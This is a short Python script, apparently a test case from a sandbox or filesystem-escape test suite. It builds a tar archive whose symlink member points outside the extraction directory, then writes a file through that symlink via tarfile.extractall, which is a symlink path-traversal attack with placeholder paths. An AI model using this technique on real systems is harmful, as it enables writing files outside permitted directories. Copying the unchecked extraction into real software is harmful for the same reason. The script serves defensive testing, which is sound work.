# category: filesystem
# attack: a tar with a symlink member pointing outside, then a file through it
# profile: basic filesystem
import tarfile, io
with tarfile.open("l.tar", "w") as t:
    info = tarfile.TarInfo("out")
    info.type = tarfile.SYMTYPE
    info.linkname = "@OUTSIDE_DIR@"
    t.addfile(info)
    f = tarfile.TarInfo("out/@TOKEN@-link")
    f.size = 1
    t.addfile(f, io.BytesIO(b"x"))
tarfile.open("l.tar").extractall(".")
